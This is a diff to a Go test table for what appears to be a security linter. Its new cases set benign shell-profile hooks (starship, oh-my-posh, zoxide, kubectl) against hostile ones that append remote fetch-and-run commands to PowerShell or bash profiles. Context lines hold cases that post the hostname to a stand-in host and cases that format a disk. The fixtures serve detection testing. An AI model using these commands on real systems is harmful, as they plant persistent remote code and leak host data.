@@ -142,6 +142,13 @@ var codeCases = []lintCase{
 	// The host's and the user's names are who the user is, as whoami and hostname.
 	{"a.py", "secret-exfil", "import socket, json, urllib.request\nbody = json.dumps({\"host\": socket.gethostname()}).encode()\nurllib.request.urlopen(urllib.request.Request(\"https://x.example/a\", data=body))\n", "error", 3},
 	{"a.js", "secret-exfil", "const os = require(\"os\");\nfetch(\"https://x.example/a\", {method: \"POST\", body: os.hostname()});\n", "error", 2},
+	// A named tool's own shell hook, as its install instructions give it.
+	{"p.ps1", "persistence", "Add-Content -Path $PROFILE -Value 'Invoke-Expression (&starship init powershell)'\n", "note", 1},
+	{"p.ps1", "persistence", "Add-Content -Path $PROFILE -Value 'oh-my-posh init pwsh --config \"$env:POSH_THEMES_PATH\\x.omp.json\" | Invoke-Expression'\n", "note", 1},
+	{"p.ps1", "persistence", "Add-Content -Path $PROFILE -Value 'iex (irm https://x.example/a.ps1)'\n", "warning", 1},
+	{"p.sh", "persistence", "echo 'zoxide init fish | source' >> ~/.config/fish/config.fish\n", "note", 1},
+	{"p.sh", "persistence", "echo 'source <(kubectl completion bash)' >> ~/.bashrc\n", "note", 1},
+	{"p.sh", "persistence", "echo 'source <(curl -s https://x.example/a)' >> ~/.bashrc\n", "warning", 1},
 	// A loop device of an image file is the file: formatting it wipes no disk.
 	{"img.sh", "disk-wipe", "LOOP=$(sudo losetup --find --show --partscan build/disk.img)\nsudo mkfs.ext4 \"${LOOP}p1\"\n", "", 0},
 	{"img.sh", "disk-wipe", "LOOP=$(losetup -f)\nsudo mkfs.ext4 \"$LOOP\"\n", "warning", 2},
